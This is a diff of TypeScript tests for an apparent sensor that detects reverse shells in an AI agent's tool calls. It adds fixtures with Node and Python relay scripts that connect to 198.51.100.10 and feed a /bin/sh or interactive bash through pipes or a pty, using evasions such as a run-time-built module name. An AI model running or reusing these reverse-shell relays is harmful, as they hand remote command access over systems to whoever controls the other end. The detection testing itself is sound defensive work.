@@ -128,3 +128,71 @@ except Exception as e: print(e)'`;
     assert.ok(shells.every((a) => a.tool_call === 'call-1'));
   }
 });
+
+// (session 41: the argv rule above reads text, so the same relays with their code in a file, Node's module name
+//  built at run time, or the shell started before the connection raised nothing; network_fed_shell joins the
+//  shell that reads a pipe or pty to the parent that connected out, from the kernel's view of fds 0–2)
+const RELAYS: [string, string][] = [
+  ['node, module name built at run time, code in a file', `cat > r.js <<'EOF'
+const n = require(["n", "e", "t"].join("")), cp = require("child_process");
+const c = n.connect(80, "198.51.100.10", () => {
+  c.write("GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n");
+  const sh = cp.spawn("/bin/sh"); c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c);
+  setTimeout(() => process.exit(0), 1500);
+});
+c.on("error", (e) => { console.log(e.message); process.exit(0); });
+EOF
+node r.js; echo done`],
+  ['python, the shell started before the connection', `cat > r.py <<'EOF'
+import socket, subprocess, time
+p = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+time.sleep(0.3)
+s = socket.create_connection(("198.51.100.10", 80), timeout=3)
+s.send(b"GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n")
+p.stdin.write(b"echo fed\\n"); p.stdin.close(); print(p.stdout.read().decode().strip())
+EOF
+python3 r.py; echo done`],
+  ['python, an interactive bash on a pseudo-terminal', `cat > r.py <<'EOF'
+import os, socket, subprocess
+s = socket.create_connection(("198.51.100.10", 80), timeout=3)
+m, sl = os.openpty()
+p = subprocess.Popen(["bash", "--norc", "-i"], stdin=sl, stdout=sl, stderr=sl, start_new_session=True)
+os.write(m, b"exit\\n"); p.wait(timeout=10); print("pty done")
+EOF
+python3 r.py; echo done`],
+];
+
+for (const [name, script] of RELAYS) {
+  test(`a shell fed through a pipe or pty by a parent that connected out: ${name}`, async () => {
+    const { r, alerts, s } = await oneCall(script);
+    assert.match(r.stdout, /done/);
+    const shells = alerts.filter((a) => a.payload.category === 'reverse_shell');
+    assert.ok(shells.some((a) => rulesOf(a).includes('network_fed_shell')), JSON.stringify(alerts.map((a) => [a.payload.category, rulesOf(a), a.payload.message])));
+    assert.ok(!shells.some((a) => rulesOf(a).includes('scripted_reverse_shell_exec')), 'no argv showed the code');
+    assert.ok(shells.every((a) => a.tool_call === 'call-1'));
+    const fed = s.events.find((e) => e.payload.fed_by_net !== undefined || e.payload.feeds_shell !== undefined);
+    assert.ok(fed, 'one half of the relay names the other');
+    assert.match(JSON.stringify(fed.payload), /198\.51\.100\.10/);
+    const own = shells.find((a) => a.payload.rule === 'network_fed_shell');
+    if (own) assert.match(own.payload.message, /^Relayed reverse shell: (shell pid \d+ reads its commands from pid \d+, which connected to|pid \d+, feeding commands to shell pid \d+, connected to) 198\.51\.100\.10:80 \(/, own.payload.message);
+  });
+}
+
+test('shells on pipes that no connected parent feeds, and a connected parent running sh -c, are not relayed shells', async () => {
+  const { r, alerts, s } = await oneCall(`echo 'echo piped' | sh
+cat > b.py <<'EOF'
+import socket, subprocess
+print(subprocess.run(["sh"], input=b"echo no-network", capture_output=True).stdout.decode().strip())
+s = socket.create_connection(("198.51.100.10", 80), timeout=3)
+s.send(b"GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n"); s.recv(100)
+print(subprocess.run(["sh", "-c", "echo after-connect"], capture_output=True).stdout.decode().strip())
+print(subprocess.run(["sh", "script.sh"], capture_output=True).stdout.decode().strip())
+EOF
+echo 'echo from-script' > script.sh
+python3 b.py; echo done`);
+  assert.match(r.stdout, /piped\nno-network\nafter-connect\nfrom-script\ndone/);
+  assert.deepEqual(alerts.filter((a) => a.payload.category === 'reverse_shell').map((a) => a.payload.message), []);
+  // the sensor saw the pipes: the rule had something to look at and found no feeder
+  const piped = s.events.filter((e) => e.kind === 'exec' && Array.isArray(e.payload.stdio_pipe) && (e.payload.stdio_pipe as number[]).includes(0));
+  assert.ok(piped.length >= 2, JSON.stringify(s.events.filter((e) => e.kind === 'exec').map((e) => [e.payload.argv, e.payload.stdio_pipe])));
+});
